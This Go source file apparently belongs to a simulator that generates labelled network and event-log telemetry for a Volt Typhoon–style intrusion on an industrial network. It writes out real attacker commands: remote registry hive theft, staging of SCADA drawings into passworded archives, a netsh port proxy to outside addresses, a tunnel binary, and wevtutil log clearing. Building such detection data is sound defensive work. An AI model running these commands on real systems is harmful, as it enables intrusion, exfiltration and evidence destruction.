package volttyphoon

import (
	"fmt"
	"net/netip"
	"time"

	"longwatch/internal/simulate/chance"
	"longwatch/internal/simulate/estate"
	"longwatch/internal/simulate/packet"
	"longwatch/internal/simulate/talk"
	"longwatch/internal/simulate/truth"
)

// remoteHive saves a hive of the application server over winreg and fetches
// the file from its administrative share.
func (x *play) remoteHive() {
	x.pause()
	s := x.SMB(x.now, x.jump.Station, x.app, x.user, x.jump.Name)
	ipc := s.Open("IPC$")
	p := ipc.Pipe("winreg")
	c := p.Bind(talk.WinReg)
	root, key := talk.NewHandle(x.r), talk.NewHandle(x.r)
	file := x.r.Letters(chance.Mixed, 8) + ".tmp"
	for _, call := range []talk.Call{talk.OpenLocalMachine(root), talk.OpenKey(root, "SYSTEM", key), talk.SaveKey(key, file), talk.CloseKey(key), talk.CloseKey(root)} {
		c.Call(call)
	}
	p.Close()
	ipc.Disconnect()
	admin := s.Open("ADMIN$")
	admin.Read(`System32\`+file, append([]byte("regf\x01\x00\x00\x00\x01\x00\x00\x00"), x.r.Bytes(90000)...))
	admin.Delete(`System32\` + file)
	admin.Disconnect()
	s.End()
	x.p.Step(x.now, x.app.Name, "VT-13", "registry hive saved over the network and fetched", truth.Pcap, truth.EVTX(x.app.Name, estate.Security))
	x.now = s.Now()
}

// collect archives under odd names and moves the archive.
func (x *play) collect() {
	fs := x.One(estate.FileServer)
	s := x.jump.KerberosSMB(x.now, fs, x.user)
	t := s.Open("Projects")
	names := chance.Some(x.r, []string{`Substations\switchgear layout.pdf`, `Substations\relay settings 2025.xlsx`, `SCADA\scada network one-line.pdf`, `SCADA\hmi screens.docx`, `Plant\P&ID rev C.pdf`, `Plant\plc backup list.xlsx`, `SCADA\scada points.xlsx`}, 6)
	for _, n := range names {
		data := x.r.Bytes(x.r.Between(20000, 60000))
		copy(data, map[bool]string{true: "%PDF-1.7\n", false: "PK\x03\x04\x14\x00\x06\x00"}[n[len(n)-4:] == ".pdf"])
		t.Read(n, data)
		s.Wait(x.r.Wait(2 * time.Second))
	}
	t.Disconnect()
	s.End()
	x.now = s.Now()
	x.p.Step(x.now, fs.Name, "VT-31", "plant drawings read in bulk from the file server", truth.Pcap, truth.EVTX(fs.Name, estate.Security))
	password := x.r.Letters(chance.Mixed, 10)
	archiver := `C:\Users\Public\Appfile\ronf.exe`
	archive := chance.Pick(x.r, []string{`DMBC2C61.tmp`, `Lock.lic`})
	x.pause()
	p := x.jump.Spawn(x.now, x.logon, x.shell, archiver, fmt.Sprintf(`ronf.exe a -v500m -hp%s %s\%s %s`, password, x.folder, archive, x.folder))
	p.CreateFile(x.now.Add(4*time.Second), x.folder+`\`+archive)
	p.End(x.now.Add(9 * time.Second))
	data := append([]byte("Rar!\x1a\x07\x01\x00"), x.r.Bytes(180000)...)
	s = x.SMB(x.now.Add(time.Minute), x.jump.Station, x.app, x.user, x.jump.Name)
	c := s.Open("C$")
	c.Write(`Windows\Temp\`+archive, data)
	c.Disconnect()
	s.End()
	x.now = s.Now()
	x.p.Step(x.now, x.app.Name, "VT-22", "archive under a misleading name moved to another server", truth.Pcap, truth.EVTX(x.jump.Name, estate.Sysmon), truth.EVTX(x.app.Name, estate.Security))
}

// relay sets a port proxy up, sends traffic through it, and keeps a tunnel.
func (x *play) relay() {
	listen := chance.Pick(x.r, []int{9999, 50100})
	connect := chance.Pick(x.r, []int{8443, 1433})
	outside := netip.AddrFrom4([4]byte{chance.Pick(x.r, []byte{45, 66, 108, 149}), byte(x.r.Between(30, 200)), byte(x.r.IntN(256)), byte(x.r.Between(2, 254))})
	if x.r.Chance(0.25) {
		outside = netip.MustParseAddr(chance.Pick(x.r, []string{"23.27.120.240", "109.104.154.116"}))
	}
	x.p.Remote(outside.String())
	x.pause()
	add := fmt.Sprintf(`netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=%d connectaddress=%s connectport=%d`, listen, outside, connect)
	l, cmd := x.RemoteWMI(x.now, x.jump.Station, x.app, x.user, x.jump.Name, `C:\Windows\System32\cmd.exe`, `cmd.exe /c "`+add+`"`)
	n := x.app.Spawn(x.now.Add(300*time.Millisecond), l, cmd, `C:\Windows\System32\netsh.exe`, add)
	n.SetRegistry(x.now.Add(500*time.Millisecond), fmt.Sprintf(`HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/%d`, listen), fmt.Sprintf("%s/%d", outside, connect))
	n.End(x.now.Add(800 * time.Millisecond))
	x.p.Step(x.now, x.app.Name, "VT-23", fmt.Sprintf("port proxy from %d to %s:%d", listen, outside, connect), truth.EVTX(x.app.Name, estate.Security), truth.EVTX(x.app.Name, estate.Sysmon))

	begin := x.now.Add(2 * time.Minute)
	for i := range 4 {
		at := begin.Add(time.Duration(i)*9*time.Minute + x.r.Duration(0, time.Minute))
		in := x.Dial(at, x.jump.Station, x.app.Station, uint16(listen))
		out := x.Dial(at.Add(3*time.Millisecond), x.app.Station, x.Internet(outside), uint16(connect))
		for range x.r.Between(4, 8) {
			up, down := x.r.Bytes(x.r.Size(4000, 40000)), x.r.Bytes(x.r.Size(1500, 9000))
			in.Send(packet.Client, up)
			out.Until(in.Now())
			out.Send(packet.Client, up)
			out.Send(packet.Server, down)
			in.Until(out.Now())
			in.Send(packet.Server, down)
			pause := x.r.Wait(20 * time.Second)
			in.Wait(pause)
			out.Wait(pause)
		}
		in.Close(packet.Client)
		out.Until(in.Now())
		out.Close(packet.Client)
	}
	x.p.Step(begin, x.app.Name, "VT-24", "connections relayed outward through the port proxy", truth.Pcap)

	tunnel := uint16(chance.Pick(x.r, []int{8080, 8443, 8043, 8000, 10443}))
	exit := netip.AddrFrom4([4]byte{chance.Pick(x.r, []byte{104, 144, 155, 207}), byte(x.r.Between(100, 250)), byte(x.r.IntN(256)), byte(x.r.Between(2, 254))})
	x.p.Remote(exit.String())
	at := begin.Add(20 * time.Minute)
	program := chance.Pick(x.r, []string{`C:\Windows\Temp\SMSvcService.exe`, `C:\Windows\Temp\vm3dservice.exe`, `C:\Users\Public\Appfile\watchdogd.exe`, `C:\Windows\Temp\WmiPreSV.exe`})
	frp := x.app.Spawn(at.Add(-time.Second), l, cmd, program, program+` -c C:\Windows\Temp\update.ini`)
	k := x.Dial(at, x.app.Station, x.Internet(exit), tunnel)
	frp.Connected(at, exit.String(), k.ClientPort(), tunnel)
	k.Send(packet.Client, append([]byte{0x17}, talk.GoClient.ClientHello(x.r, "")...))
	t := talk.Resume(k, x.r)
	k.Wait(40 * time.Millisecond)
	t.Send(packet.Server, 1500)
	for range 150 {
		t.Exchange(x.r.Between(60, 120), x.r.Between(60, 110), x.r.Duration(2*time.Millisecond, 20*time.Millisecond))
		k.Wait(x.r.Around(30*time.Second, 0.02))
	}
	k.Close(packet.Client)
	x.p.Step(at, x.app.Name, "VT-25 VT-26", fmt.Sprintf("long tunnel to %s:%d", exit, tunnel), truth.Pcap, truth.EVTX(x.app.Name, estate.Sysmon))
	x.now = begin.Add(45 * time.Minute)
	remove := fmt.Sprintf(`netsh interface portproxy delete v4tov4 listenaddress=0.0.0.0 listenport=%d`, listen)
	l, cmd = x.RemoteWMI(x.now, x.jump.Station, x.app, x.user, x.jump.Name, `C:\Windows\System32\cmd.exe`, `cmd.exe /c "`+remove+`"`)
	x.app.Spawn(x.now.Add(300*time.Millisecond), l, cmd, `C:\Windows\System32\netsh.exe`, remove).End(x.now.Add(time.Second))
}

// plant is the look at the operator station.
func (x *play) plant() {
	stations := x.Of(estate.HMI)
	if len(stations) == 0 {
		return
	}
	x.pause()
	hmi := stations[0]
	mstsc := x.jump.Spawn(x.now, x.logon, x.shell, `C:\Windows\System32\mstsc.exe`, `mstsc /v:`+hmi.Name)
	x.jump.RemoteDesktop(x.now.Add(2*time.Second), hmi, x.user, 9*time.Minute, mstsc)
	x.p.Step(x.now, hmi.Name, "VT-30", "first remote desktop from the jump host to an operator station", truth.Pcap, truth.EVTX(hmi.Name, estate.Security))
	x.now = x.now.Add(11 * time.Minute)
}

// remoteClear clears a log of the application server from the jump host.
func (x *play) remoteClear() {
	x.run("wevtutil.exe", `wevtutil cl System /r:`+x.app.Name)
	a := talk.Account{User: x.user.Name, Domain: x.NetBIOS, Workstation: x.jump.Name}
	service := talk.Service{Host: x.app.Name, DNS: x.app.FQDN(), Domain: x.NetBIOS, Zone: x.Zone, Build: x.app.Build}
	k := x.Dial(x.now.Add(100*time.Millisecond), x.jump.Station, x.app.Station, 135)
	talk.BindTCP(k, x.r, talk.EndpointMap, "135", a, service).Call(talk.EptMap(talk.EventLog6, 49669, x.app.IP.As4()))
	k.Close(packet.Client)
	k = x.Dial(k.Now().Add(time.Millisecond), x.jump.Station, x.app.Station, 49669)
	c := talk.BindTCP(k, x.r, talk.EventLog6, "49669", a, service)
	l := x.app.LogOn(k.Now(), x.user, estate.LogonOptions{Type: 3, From: x.jump.IP, Port: k.ClientPort(), Workstation: x.jump.Name, NTLM: true})
	c.Call(talk.Opaque(6, 80, 16))
	l.ClearLog(k.Now(), estate.System)
	k.Close(packet.Client)
	l.LogOff(k.Now())
	x.p.Step(k.Now(), x.app.Name, "VT-29", "System log of the application server cleared over the network", truth.Pcap, truth.EVTX(x.app.Name, estate.System))
}

// cover clears the logs of the jump host.
func (x *play) cover() {
	begin := x.now
	for _, channel := range []string{estate.System, estate.Application, estate.Security} {
		p := x.run("wevtutil.exe", `wevtutil cl `+channel)
		x.logon.ClearLog(p.At.Add(60*time.Millisecond), channel)
	}
	x.remoteClear()
	x.run("cmd.exe", `cmd /c rd /s /q `+x.folder)
	x.logon.LogOff(x.now.Add(2 * time.Minute))
	x.p.Step(begin, x.jump.Name, "VT-29", "event logs of the jump host cleared", truth.EVTX(x.jump.Name, estate.Security), truth.EVTX(x.jump.Name, estate.System), truth.EVTX(x.jump.Name, estate.Sysmon))
}
